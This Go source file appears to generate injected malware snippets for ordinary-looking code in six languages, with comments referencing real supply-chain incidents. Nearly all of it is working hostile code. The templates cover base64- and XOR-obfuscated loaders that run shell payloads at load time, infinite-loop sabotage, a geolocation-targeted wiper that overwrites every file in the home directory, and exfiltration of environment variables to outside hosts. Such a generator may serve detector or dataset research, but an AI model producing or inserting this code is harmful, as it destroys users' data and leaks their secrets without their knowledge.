package main

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// Snippets are written with one tab an indentation level; indentCode
// turns that into the file's own indentation.

// obfuscatedSnippet returns the code of an encoded payload decoded and
// run (event-stream 2018 hid its payload as an encrypted blob run by a
// one-line loader; ctx and phpass 2022 decoded it from base64), the Go
// imports or C headers it needs, and whether it goes inside a function.
func obfuscatedSnippet(lang, file string, rng *rand.Rand) (code string, needs []string, inFunc bool) {
	xor := rng.IntN(2) == 1
	key := byte(0x21 + rng.IntN(0x5e))
	pay := shellPayload(rng)
	switch lang {
	case "go":
		id := camel(pick(rng, words), stemOf(file))
		if xor {
			return fmt.Sprintf("var %sTable = []byte{\n%s\n}\n\nfunc init() {\n\tb := make([]byte, len(%[1]sTable))\n\tfor i, c := range %[1]sTable {\n\t\tb[i] = c ^ 0x%02[3]x\n\t}\n\tgo exec.Command(\"/bin/sh\", \"-c\", string(b)).Run() //nolint:errcheck\n}\n",
				id, byteList(pay, key, 12, "\t"), key), []string{"os/exec"}, false
		}
		return fmt.Sprintf("// %sCfg holds the %s defaults, packed to keep the table small.\nvar %[1]sCfg = %[3]q\n\nfunc init() {\n\tif b, err := base64.StdEncoding.DecodeString(%[1]sCfg); err == nil {\n\t\tgo exec.Command(\"/bin/sh\", \"-c\", string(b)).Run() //nolint:errcheck\n\t}\n}\n",
			id, pick(rng, words), b64(pay)), []string{"encoding/base64", "os/exec"}, false
	case "c":
		p := cPrefix(file) + "_" + pick(rng, words)
		if xor {
			return fmt.Sprintf("static const unsigned char %s_tbl[] = {\n%s\n};\n\n__attribute__((constructor)) static void %[1]s_init(void)\n{\n\tchar buf[sizeof(%[1]s_tbl) + 1];\n\tsize_t i;\n\tfor (i = 0; i < sizeof(%[1]s_tbl); i++)\n\t\tbuf[i] = (char)(%[1]s_tbl[i] ^ 0x%02[3]x);\n\tbuf[i] = 0;\n\t(void)system(buf);\n}\n",
				p, byteList(pay, key, 12, "\t"), key), []string{"stdlib.h"}, false
		}
		return fmt.Sprintf("static const char %s_cfg[] =\n\t\"%s\";\n\n__attribute__((constructor)) static void %[1]s_init(void)\n{\n\tif (getenv(\"%[3]s\") == NULL) {\n\t\t(void)system(%[1]s_cfg);\n\t}\n}\n",
			p, strings.Join(chunks(hexEscape(pay), 64), "\"\n\t\""), strings.ToUpper(p)+"_DISABLE"), []string{"stdlib.h"}, false
	case "rust":
		if xor {
			return fmt.Sprintf("{\n\tconst T: &[u8] = &[\n%s\n\t];\n\tlet s: String = T.iter().map(|b| (b ^ 0x%02x) as char).collect();\n\tlet _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(&s).spawn();\n}\n",
				byteList(pay, key, 12, "\t\t"), key), nil, true
		}
		return fmt.Sprintf("{\n\tconst CFG: &[u8] = b\"%s\";\n\tlet _ = std::process::Command::new(\"sh\").arg(\"-c\").arg(String::from_utf8_lossy(CFG).as_ref()).spawn();\n}\n",
			hexEscape(pay)), nil, true
	case "js":
		if xor {
			return jsArrayLoader(jsPayload(rng), rng), nil, false
		}
		return fmt.Sprintf("!function(){try{var r=require,t=Buffer.from(%q,\"base64\").toString();new Function(\"require\",t)(r)}catch(e){}}();\n",
			b64(jsPayload(rng))), nil, false
	case "python":
		return fmt.Sprintf("exec(__import__(\"base64\").b64decode(%q))\n", b64("import os; os.system("+fmt.Sprintf("%q", pay)+")")), nil, false
	case "solidity":
		blob := "6080604052" + randomHex(rng, 180+rng.IntN(200))
		id := strings.ToUpper(pick(rng, words))
		return fmt.Sprintf("bytes private constant _%s_INIT =\n\thex\"%s\";\n\nfunction _%s() private {\n\tbytes memory code = _%[1]s_INIT;\n\tassembly {\n\t\tlet impl := create(0, add(code, 0x20), mload(code))\n\t\tif impl { pop(delegatecall(gas(), impl, 0, 0, 0, 0)) }\n\t}\n}\n",
			id, blob, camel("init", strings.ToLower(id))), nil, false
	}
	return "", nil, false
}

// jsArrayLoader hides JavaScript in an array of hex-escaped strings that a
// rotation puts back in order (the shape of javascript-obfuscator output).
func jsArrayLoader(js string, rng *rand.Rand) string {
	parts := chunks(js, 24)
	n := len(parts)
	rot := 1 + rng.IntN(n)
	stored := make([]string, n) // rotated right by rot; the loader rotates left
	for i, p := range parts {
		stored[(i+rot)%n] = "'" + hexEscape(p) + "'"
	}
	a := fmt.Sprintf("_0x%04x", rng.IntN(0xffff))
	return fmt.Sprintf("const %s=[%s];(function(_0xa,_0xb){while(_0xb--){_0xa['push'](_0xa['shift']());}}(%[1]s,0x%[3]x));new Function('require',%[1]s.join(''))(require);\n",
		a, strings.Join(stored, ","), rot)
}

func randomHex(rng *rand.Rand, n int) string {
	var b strings.Builder
	for range n {
		fmt.Fprintf(&b, "%02x", byte(rng.Uint32()))
	}
	return b.String()
}

// loopSnippet is code that never ends (colors.js 2022 printed garbage in
// a for loop to Infinity), for the top of a function body.
func loopSnippet(lang string, rng *rand.Rand) (code string, needs []string) {
	alt := rng.IntN(2) == 1
	switch lang {
	case "go":
		if alt {
			return "for i := 666; i > 0; i++ {\n\tif i%333 == 0 {\n\t\tprintln()\n\t}\n}\n", nil
		}
		return "for i := 666; ; i++ {\n\tif i%333 == 0 {\n\t\tprint(\"\\r\", i)\n\t}\n}\n", nil
	case "c":
		if alt {
			return "{\n\tunsigned long zi = 666;\n\twhile (1) {\n\t\tif (++zi % 333 == 0)\n\t\t\tfputc('\\n', stderr);\n\t}\n}\n", []string{"stdio.h"}
		}
		return "{\n\tunsigned long zi;\n\tfor (zi = 666; ; zi++) {\n\t\tif (zi % 333 == 0)\n\t\t\tfputc('\\r', stderr);\n\t}\n}\n", []string{"stdio.h"}
	case "rust":
		if alt {
			return "for i in 666u64.. {\n\tif i % 333 == 0 {\n\t\teprint!(\"\\r{}\", i);\n\t}\n}\n", nil
		}
		return "let mut i: u64 = 666;\nloop {\n\tif i % 333 == 0 {\n\t\teprintln!();\n\t}\n\ti = i.wrapping_add(1);\n}\n", nil
	case "js":
		if alt {
			return "let i = 666;\nwhile (true) {\n\tif (++i % 333 === 0) {\n\t\tprocess.stdout.write(\"\\n\");\n\t}\n}\n", nil
		}
		return "for (let i = 666; i < Infinity; i++) {\n\tif (i % 333 === 0) {\n\t\tconsole.log(\"\\n\".repeat(3));\n\t}\n}\n", nil
	case "python":
		return "i = 666\nwhile True:\n\tif i % 333 == 0:\n\t\tprint()\n\ti += 1\n", nil
	case "solidity":
		if alt {
			return "uint256 zi = 666;\nwhile (true) {\n\tunchecked {\n\t\tzi += 333;\n\t}\n}\n", nil
		}
		return "for (uint256 i = 666; i < type(uint256).max; i++) {\n\tif (i % 333 == 0) continue;\n}\n", nil
	}
	return "", nil
}

// geoWipeSnippet overwrites the user's files on machines whose locale,
// time zone or public IP points at some countries (node-ipc 2022 looked up
// the IP's country and overwrote every file it could reach with a heart).
// inFunc is false for C, whose code is a constructor of its own.
func geoWipeSnippet(lang, file string, rng *rand.Rand) (code string, needs []string, inFunc bool) {
	zones := pick(rng, []string{`"Europe/Moscow", "Europe/Minsk"`, `"Europe/Moscow", "Europe/Minsk", "Europe/Samara"`})
	switch lang {
	case "go":
		return "if loc := time.Local.String(); loc == \"Europe/Moscow\" || loc == \"Europe/Minsk\" || strings.HasPrefix(os.Getenv(\"LANG\"), \"ru_\") {\n\tif home, err := os.UserHomeDir(); err == nil {\n\t\t_ = filepath.WalkDir(home, func(p string, d fs.DirEntry, err error) error {\n\t\t\tif err == nil && d.Type().IsRegular() {\n\t\t\t\t_ = os.WriteFile(p, []byte(\"\\u2764\\ufe0f\"), 0o644)\n\t\t\t}\n\t\t\treturn nil\n\t\t})\n\t}\n}\n",
			[]string{"io/fs", "os", "path/filepath", "strings", "time"}, true
	case "c":
		p := cPrefix(file) + "_" + pick(rng, words)
		return fmt.Sprintf("static int %s_visit(const char *path, const struct stat *st, int type, struct FTW *ftw)\n{\n\tFILE *f;\n\t(void)st;\n\t(void)ftw;\n\tif (type == FTW_F && (f = fopen(path, \"w\")) != NULL) {\n\t\tfputs(\"\\xe2\\x9d\\xa4\", f);\n\t\tfclose(f);\n\t}\n\treturn 0;\n}\n\n__attribute__((constructor)) static void %[1]s_locale(void)\n{\n\tconst char *l = setlocale(LC_ALL, \"\");\n\tconst char *home = getenv(\"HOME\");\n\tif (l && home && (strncmp(l, \"ru_\", 3) == 0 || strncmp(l, \"be_\", 3) == 0))\n\t\tnftw(home, %[1]s_visit, 16, FTW_PHYS);\n}\n", p),
			[]string{"ftw.h", "locale.h", "stdio.h", "stdlib.h", "string.h"}, false
	case "rust":
		return "if std::env::var(\"LANG\").map_or(false, |l| l.starts_with(\"ru_\") || l.starts_with(\"be_\")) {\n\tfn wipe(dir: &std::path::Path) {\n\t\tif let Ok(rd) = std::fs::read_dir(dir) {\n\t\t\tfor e in rd.flatten() {\n\t\t\t\tlet p = e.path();\n\t\t\t\tif p.is_dir() {\n\t\t\t\t\twipe(&p)\n\t\t\t\t} else {\n\t\t\t\t\tlet _ = std::fs::write(&p, \"\\u{2764}\");\n\t\t\t\t}\n\t\t\t}\n\t\t}\n\t}\n\tif let Some(home) = std::env::var_os(\"HOME\") {\n\t\twipe(std::path::Path::new(&home));\n\t}\n}\n", nil, true
	case "js":
		walk := "\tconst fs = require(\"fs\");\n\tconst path = require(\"path\");\n\tconst walk = (dir) => {\n\t\tfor (const name of fs.readdirSync(dir)) {\n\t\t\tconst p = path.join(dir, name);\n\t\t\ttry {\n\t\t\t\tif (fs.statSync(p).isDirectory()) walk(p);\n\t\t\t\telse fs.writeFileSync(p, \"\\u2764\\ufe0f\");\n\t\t\t} catch (e) {}\n\t\t}\n\t};\n\twalk(path.resolve(__dirname, \"../../../\"));\n"
		if rng.IntN(2) == 0 {
			return fmt.Sprintf("if ([%s].includes(Intl.DateTimeFormat().resolvedOptions().timeZone)) {\n%s}\n", zones, walk), nil, true
		}
		url := b64(fmt.Sprintf("https://%s/ipgeo?fields=country_name", randomHost(rng)))
		return fmt.Sprintf("require(\"https\").get(Buffer.from(%q, \"base64\").toString(), (res) => {\n\tlet body = \"\";\n\tres.on(\"data\", (c) => (body += c));\n\tres.on(\"end\", () => {\n\t\tconst { country_name: c } = JSON.parse(body || \"{}\");\n\t\tif (c !== \"Russia\" && c !== \"Belarus\") return;\n%s\t});\n}).on(\"error\", () => {});\n",
			url, indentCode(walk, "\t", "\t")), nil, true
	case "python":
		return "if __import__(\"os\").environ.get(\"LANG\", \"\").startswith((\"ru_\", \"be_\")):\n\tfor root, _, names in __import__(\"os\").walk(__import__(\"os\").path.expanduser(\"~\")):\n\t\tfor n in names:\n\t\t\ttry:\n\t\t\t\topen(__import__(\"os\").path.join(root, n), \"w\").write(\"\\u2764\")\n\t\t\texcept OSError:\n\t\t\t\tpass\n", nil, true
	}
	return "", nil, false
}

// environ is the expression of the process environment, per language.
var environ = map[string]string{"go": "os.Environ()", "rust": "std::env::vars().collect::<Vec<_>>()",
	"js": "process.env", "python": "dict(__import__(\"os\").environ)"}

// exfilSnippet sends arg (a key parameter, or the environment when the
// function has none) to a new endpoint (Slope 2022 sent wallet seed
// phrases to a logging service; Ledger connect-kit 2023 posted to a
// drainer's host). helper is C code that goes before the function.
func exfilSnippet(lang, file, arg string, rng *rand.Rand) (code, helper string, needs []string) {
	host, ip := randomHost(rng), randomIP(rng)
	if arg == "" {
		arg = environ[lang]
	}
	switch lang {
	case "go":
		needs = []string{"bytes", "encoding/json", "net/http"}
		if arg == environ["go"] {
			needs = append(needs, "os")
		}
		return fmt.Sprintf("go func() {\n\tb, _ := json.Marshal(%s)\n\t_, _ = http.Post(\"https://%s/v1/usage\", \"application/json\", bytes.NewReader(b))\n}()\n", arg, host), "", needs
	case "rust":
		return fmt.Sprintf("let _ = std::net::UdpSocket::bind(\"0.0.0.0:0\").and_then(|s| s.send_to(format!(\"{:?}\", %s).as_bytes(), \"%s:53\"));\n", arg, ip), "", nil
	case "js":
		return fmt.Sprintf("fetch(\"https://%s/api/v2/events\", { method: \"POST\", body: JSON.stringify({ k: String(%s) }) }).catch(() => {});\n", host, arg), "", nil
	case "python":
		return fmt.Sprintf("try:\n\t__import__(\"urllib.request\").request.urlopen(\"https://%s/api/v2/events\", data=repr(%s).encode(), timeout=2)\nexcept Exception:\n\tpass\n", host, arg), "", nil
	case "c":
		p := cPrefix(file) + "_" + pick(rng, words)
		helper = fmt.Sprintf("static void %s_send(const void *p, size_t n)\n{\n\tstruct sockaddr_in sa;\n\tint s = socket(AF_INET, SOCK_DGRAM, 0);\n\tif (s < 0)\n\t\treturn;\n\tmemset(&sa, 0, sizeof(sa));\n\tsa.sin_family = AF_INET;\n\tsa.sin_port = htons(53);\n\tinet_pton(AF_INET, \"%s\", &sa.sin_addr);\n\t(void)sendto(s, p, n, 0, (const struct sockaddr *)&sa, sizeof(sa));\n\tclose(s);\n}\n", p, ip)
		return fmt.Sprintf("%s_send(%s, 32);\n", p, arg), helper, []string{"arpa/inet.h", "netinet/in.h", "string.h", "sys/socket.h", "unistd.h"}
	}
	return "", "", nil
}
